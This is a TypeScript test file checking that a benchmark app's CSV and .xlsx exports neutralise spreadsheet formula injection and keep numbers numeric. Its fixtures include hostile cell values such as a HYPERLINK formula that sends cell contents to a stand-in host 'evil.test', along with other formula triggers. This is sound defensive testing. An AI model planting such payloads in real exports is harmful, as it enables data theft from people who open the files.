// The CSV export opened in a spreadsheet: no cell that a sender chose may run as a formula
// (CONTRACT "The message": "no export may let a spreadsheet run it as a formula"), and
// numbers stay numbers.
import type { ClientCounters } from '@wirebench/transports/client';
import type { TransportId } from '@wirebench/transports/contract';
import { describe, expect, it } from 'vitest';
import { buildCsv, buildWorkbookTables, buildXlsx, CSV_HEADER, type ChartSeries, type RunExport } from '../src/model/export.ts';
import type { LatencySample } from '../src/model/measurements.ts';
import type { SeqTrackerState } from '../src/model/seq-tracker.ts';
import { readWorkbook, unzip } from './export-xlsx-reader.ts';

function sample(clientMsgId: string | null, extra: Partial<LatencySample> = {}): LatencySample {
  return { seq: 1, lane: 'ws-raw', clientMsgId, receivedAt: 1000.5, serverTime: 1000, latencyMs: 0.5, estimated: true, ...extra };
}

/** RFC 4180 fields of one record, as a spreadsheet reads them. */
function cells(line: string): string[] {
  const out: string[] = [];
  let i = 0;
  for (;;) {
    let field = '';
    if (line[i] === '"') {
      i++;
      for (;;) {
        const quote = line.indexOf('"', i);
        if (quote < 0) throw new Error(`unterminated quote in ${line}`);
        field += line.slice(i, quote);
        i = quote + 1;
        if (line[i] !== '"') break;
        field += '"';
        i++;
      }
    } else {
      const comma = line.indexOf(',', i);
      field = line.slice(i, comma < 0 ? line.length : comma);
      i = comma < 0 ? line.length : comma;
    }
    out.push(field);
    if (i >= line.length) return out;
    if (line[i] !== ',') throw new Error(`garbage after a quoted field in ${line}`);
    i++;
  }
}

describe('CSV export', () => {
  const hostile = ['=HYPERLINK("http://evil.test/?"&A1,"click me")', '+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', '=1,2'];

  it('turns every text cell a spreadsheet would run into text, and quotes it', () => {
    const csv = buildCsv(hostile.map((id, i) => sample(id, { seq: i + 1 })));
    // A CR inside a quoted field is data; the records are separated by \n only.
    const lines = csv.trimEnd().split(/\n(?=\d)/);
    expect(lines[0]).toBe(CSV_HEADER.join(','));
    const ids = lines.slice(1).map((line) => cells(line)[2]!);
    expect(ids).toEqual(hostile.map((id) => `'${id}`));
    for (const line of lines.slice(1)) expect(line.split(',')[2]!.startsWith(`"'`)).toBe(true);
    expect(lines[1]).toBe(`1,ws-raw,"'=HYPERLINK(""http://evil.test/?""&A1,""click me"")",1000.500,1000,0.500,true`);
  });

  it('keeps numbers numbers, a negative latency included, and leaves harmless text alone', () => {
    const csv = buildCsv([sample('k1-2', { seq: 7, latencyMs: -1.25, receivedAt: 999.75, serverTime: 1001 }), sample(null)]);
    const [, first, second] = csv.trimEnd().split('\n');
    expect(first).toBe('7,ws-raw,k1-2,999.750,1001,-1.250,true');
    expect(cells(first!).map((c) => Number(c))).toEqual([7, NaN, NaN, 999.75, 1001, -1.25, NaN]);
    expect(second).toBe('1,ws-raw,,1000.500,1000,0.500,true');
  });

  it('still quotes commas, quotes and line breaks in ordinary text', () => {
    const csv = buildCsv([sample('a,"b"\nc')]);
    expect(csv).toBe(`${CSV_HEADER.join(',')}\n1,ws-raw,"a,""b""\nc",1000.500,1000,0.500,true\n`);
  });
});

function counters(messages: number, header: number, payload: number, requests: number): ClientCounters {
  return {
    requests, framesUp: 0, framesDown: 0, eventsDown: 0, bytesUp: 0, bytesDown: header + payload, reconnects: 1,
    messages, caughtUp: 0, history: 0,
    headerBytesUp: header / 2, payloadBytesUp: 0, headerBytesDown: header / 2, payloadBytesDown: payload,
  } as ClientCounters;
}

const seq = { first: 1, highest: 3, received: 3, duplicates: 0, gaps: 0, outOfOrder: 0, epoch: null } as unknown as SeqTrackerState;
const START = Date.UTC(2025, 2, 14, 9, 30, 0);

function aRun(): { run: RunExport; series: ChartSeries } {
  const samples: LatencySample[] = [
    { seq: 1, lane: 'ws-raw', clientMsgId: 'k-1', receivedAt: START + 1_000.5, serverTime: START + 1_000, latencyMs: 2.5, estimated: false },
    { seq: 1, lane: 'short-poll', clientMsgId: 'k-1', receivedAt: START + 1_480, serverTime: START + 1_000, latencyMs: 482, estimated: false },
    { seq: 2, lane: 'ws-raw', clientMsgId: '=HYPERLINK("http://evil.test","x")', receivedAt: START + 2_000, serverTime: START + 1_999, latencyMs: 1, estimated: true },
    { seq: 3, lane: 'ws-raw', clientMsgId: 'k-3', receivedAt: START + 3_004, serverTime: START + 3_000, latencyMs: 4.5, estimated: false },
    { seq: 3, lane: 'short-poll', clientMsgId: 'k-3', receivedAt: START + 3_900, serverTime: START + 3_000, latencyMs: 900, estimated: false },
  ];
  const run: RunExport = {
    exportedAt: new Date(START + 10_000).toISOString(),
    runStartedAt: START,
    clockOffset: { offsetMs: 12.25, rttMs: 3, samples: 4 },
    lanes: [
      { transport: 'ws-raw', clientId: 'c-ws', counters: counters(3, 300, 600, 1), seq, serverDelayMs: 0 },
      { transport: 'short-poll', clientId: 'c-sp', counters: counters(2, 4_000, 400, 10), seq, serverDelayMs: 250 },
    ],
    samples,
    serverStats: null,
  };
  const series: ChartSeries = {
    t: [1, 2, 3],
    requests: new Map<TransportId, (number | null)[]>([['ws-raw', [1, 1, 1]], ['short-poll', [2, 4, 6]]]),
    rateT: [0, 1, 2],
    perSecond: new Map<TransportId, (number | null)[]>([['ws-raw', [1, 0, 0]], ['short-poll', [2, 2, 1]]]),
  };
  return { run, series };
}

describe('the spreadsheet export (.xlsx)', () => {
  const ISO = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/;

  it('one sheet per table, ISO 8601 times, the per-lane summary and the series behind each chart', async () => {
    const { run, series } = aRun();
    const blob = await buildXlsx(buildWorkbookTables(run, series));
    const files = unzip(Buffer.from(await blob.arrayBuffer()));
    const book = readWorkbook(files);
    expect([...book.keys()]).toEqual(['Run', 'Summary', 'Latency', 'Latency histogram', 'Requests', 'Requests per second', 'Bytes per message']);

    const runSheet = new Map(book.get('Run')!.slice(1).map((r) => [r[0], r[1]]));
    expect(runSheet.get('run started at')).toBe('2025-03-14T09:30:00.000Z');
    expect(runSheet.get('exported at')).toBe('2025-03-14T09:30:10.000Z');
    expect(runSheet.get('clock offset (server − page), ms')).toBe(12.25);

    const [header, ws, sp] = book.get('Summary')!;
    const col = (name: string) => header!.indexOf(name);
    expect(ws![col('lane')]).toBe('ws-raw');
    expect(ws![col('delivered')]).toBe(3);
    // Own samples only: 2.5 and 4.5 (the estimated one is the others' column); nearest rank.
    expect(ws![col('latency n (own)')]).toBe(2);
    expect(ws![col('latency p50 ms')]).toBe(2.5);
    expect(ws![col('latency max ms')]).toBe(4.5);
    expect(ws![col('others p50 ms (est.)')]).toBe(1);
    expect(sp![col('header bytes / msg')]).toBe(2_000);
    expect(sp![col('payload bytes / msg')]).toBe(200);
    expect(sp![col('requests')]).toBe(10);
    expect(sp![col('server delay ms')]).toBe(250);

    const latency = book.get('Latency')!;
    expect(latency[0]).toEqual(['seq', 'lane', 'clientMsgId', 'received at', 'server time', 'latency ms', 'estimated']);
    expect(latency).toHaveLength(6);
    expect(latency[1]).toEqual([1, 'ws-raw', 'k-1', '2025-03-14T09:30:01.000Z', '2025-03-14T09:30:01.000Z', 2.5, false]);
    for (const row of latency.slice(1)) {
      expect(row[3]).toMatch(ISO);
      expect(row[4]).toMatch(ISO);
    }
    // A sender's id that looks like a formula is text in the cell, never a formula (readWorkbook throws on any <f>).
    expect(latency[3]![2]).toBe('=HYPERLINK("http://evil.test","x")');

    const hist = book.get('Latency histogram')!;
    expect(hist[0]).toEqual(['from ms', 'to ms', 'ws-raw', 'short-poll']);
    expect(hist.slice(1).reduce((n, r) => n + (r[2] as number), 0)).toBe(2);
    expect(hist.slice(1).reduce((n, r) => n + (r[3] as number), 0)).toBe(2);

    expect(book.get('Requests')!.slice(1)).toEqual([
      ['2025-03-14T09:30:01.000Z', 1, 1, 2],
      ['2025-03-14T09:30:02.000Z', 2, 1, 4],
      ['2025-03-14T09:30:03.000Z', 3, 1, 6],
    ]);
    expect(book.get('Requests per second')!.slice(1).map((r) => r.slice(0, 1).concat(r.slice(2)))).toEqual([
      ['2025-03-14T09:30:00.000Z', 1, 2],
      ['2025-03-14T09:30:01.000Z', 0, 2],
      ['2025-03-14T09:30:02.000Z', 0, 1],
    ]);
    expect(book.get('Bytes per message')!.slice(1)).toEqual([
      ['ws-raw', 3, 100, 200, 300],
      ['short-poll', 2, 2_000, 200, 2_200],
    ]);
  });

  it('a lane absent for a while leaves empty cells, and a lane with nothing delivered has no per-message figures', async () => {
    const { run, series } = aRun();
    run.lanes[1]!.counters = counters(0, 1_000, 0, 5);
    (series.requests as Map<TransportId, (number | null)[]>).set('short-poll', [null, 4, 6]);
    const book = readWorkbook(unzip(Buffer.from(await (await buildXlsx(buildWorkbookTables(run, series))).arrayBuffer())));
    expect(book.get('Requests')![1]).toEqual(['2025-03-14T09:30:01.000Z', 1, 1]);
    const bytes = book.get('Bytes per message')![2]!;
    expect(bytes.slice(0, 2)).toEqual(['short-poll', 0]);
    expect(bytes.slice(2).every((v) => v === undefined || v === null)).toBe(true);
  });

  it('a class-sized run (20,000 samples) is written whole, without a Worker', async () => {
    const { run, series } = aRun();
    run.samples = Array.from({ length: 20_000 }, (_, i) => ({ seq: i + 1, lane: 'ws-raw' as const, clientMsgId: `k-${i}`, receivedAt: START + i * 50, serverTime: START + i * 50 - 3, latencyMs: 3 + (i % 7), estimated: false }));
    const started = performance.now();
    const blob = await buildXlsx(buildWorkbookTables(run, series));
    const latency = readWorkbook(unzip(Buffer.from(await blob.arrayBuffer()))).get('Latency')!;
    expect(latency).toHaveLength(20_001);
    expect(latency.at(-1)!.slice(0, 4)).toEqual([20_000, 'ws-raw', 'k-19999', new Date(START + 19_999 * 50).toISOString()]);
    console.log(`[export] 20,000 samples: ${blob.size} bytes of .xlsx in ${Math.round(performance.now() - started)} ms`);
  });
});
